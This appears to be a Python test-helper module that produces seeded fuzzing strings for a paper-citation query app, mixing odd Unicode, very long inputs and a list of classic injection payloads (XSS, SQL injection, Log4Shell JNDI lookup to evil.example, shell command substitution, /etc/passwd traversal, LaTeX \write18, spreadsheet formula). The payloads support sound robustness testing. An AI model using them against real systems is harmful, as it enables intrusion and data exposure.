"""Texts that somebody may type or send to break what reads them; the same for the same seed."""

import random
import unicodedata
from collections.abc import Callable, Iterator

from data.contexts import MAX_QUERY

WORDS = (
    *("attention", "neural", "translation", "graph", "storm", "protein", "residual", "speech", "[CITE]"),
    *("[OTHER]", "naïve", "深度学习", "обучение", "تعلم", "ลึก", "Erdős", "x²", "10%", "a_b", "\\cite{}"),
)
MARKUP = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "![a](http://evil.example/p.png)", "{{7*7}}",
    "${jndi:ldap://evil.example/a}", "'; DROP TABLE papers; --", "' OR '1'='1", "$(touch /tmp/pwned)",
    "`id`", "../../../../etc/passwd", "file:///etc/passwd", "\\input{/etc/passwd}", "\\write18{id}",
    "\\def\\x{\\x\\x}\\x", "$$\\frac{1}{", "%s%n%x", "{0.__class__}", "=cmd|' /C calc'!A0", "@import 'x'",
    ":material/home:", ":red[x]", "&lt;b&gt;", "<!--", "]]>", "<![CDATA[", "\\u0000", "%00", "&#0;",
    "__proto__", "null", "NaN", "undefined", "true", "0x1p-3", "1e999", "-0", "[cite]", "[CITE", "CITE]",
    "[[CITE]]", "[CITE][CITE]", "[OTHER][CITE]", "[ CITE ]", "[CITE\u200b]", "［CITE］",
)  # fmt: skip
SIGNS = (
    "\x00", "\x01", "\x08", "\x0b", "\x1b[31m", "\x7f", "\x85", "\xa0", "\xad", "\u0300", "\u200b", "\u200d",
    "\u2028", "\u2029", "\u202e", "\u2066", "\u2069", "\ufeff", "\ufffd", "\ufffe", "\uffff", "\ufdfa",
    "\U0001d160", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U000e0041", "\U0010ffff", "\ud800",
    "\udfff", "\ud83d\ude00", "\r", "\n", "\r\n", "\t", "\f", "\u3000", "İ", "ß", "ﬃ", "ǆ", "\u0345",
    "\u0f71\u0f72",
)  # fmt: skip


def hostile_texts(count: int, seed: int = 7) -> Iterator[str]:
    """So many texts: short and long, of words, markup, odd signs, any code points, and bits of them all."""
    chance = random.Random(seed)
    kinds: tuple[Callable[[random.Random], str], ...] = (
        _sentence, _markup, _signs, _any, _any, _mixed, _mixed, _mixed, _repeated, _long, _bytes,
    )  # fmt: skip
    for _ in range(count):
        yield chance.choice(kinds)(chance)


def typed(text: str) -> str:
    """The text as far as a browser can send it: without lone surrogates."""
    return text.encode("utf-8", "ignore").decode()


def _sentence(chance: random.Random) -> str:
    return " ".join(chance.choices(WORDS, k=chance.randint(0, 40)))


def _markup(chance: random.Random) -> str:
    return chance.choice(("", " ", "\n")).join(chance.choices(MARKUP, k=chance.randint(1, 6)))


def _signs(chance: random.Random) -> str:
    return "".join(chance.choices(SIGNS, k=chance.randint(1, 60)))


def _any(chance: random.Random) -> str:
    top = chance.choice((0x7F, 0x24F, 0xFFFF, 0x10FFFF))
    return "".join(chr(chance.randint(0, top)) for _ in range(chance.randint(0, 80)))


def _mixed(chance: random.Random) -> str:
    makers = (_sentence, _markup, _signs, _any)
    return "".join(chance.choice(makers)(chance) for _ in range(chance.randint(2, 5)))


def _repeated(chance: random.Random) -> str:
    piece = chance.choice((*WORDS, *MARKUP, *SIGNS, " ", "a", ". A", "[CITE] ", "a [CITE] b. C "))
    most = MAX_QUERY // len(piece) + 2
    return piece * chance.choice((2, 99, 101, most // 100 + 1, most // 10 + 1, most))


def _long(chance: random.Random) -> str:
    piece = chance.choice((_sentence, _signs, _any))(chance) or "x"
    return (piece * (MAX_QUERY // len(piece) + 1))[: MAX_QUERY + chance.choice((-1, 0, 0, 1))]


def _bytes(chance: random.Random) -> str:
    raw = chance.randbytes(chance.randint(1, 200))
    encoding, errors = chance.choice(
        (("utf-8", "surrogateescape"), ("utf-8", "replace"), ("latin-1", "strict"), ("utf-16-le", "replace"))
    )
    return unicodedata.normalize(chance.choice(("NFC", "NFD", "NFKD")), raw.decode(encoding, errors))
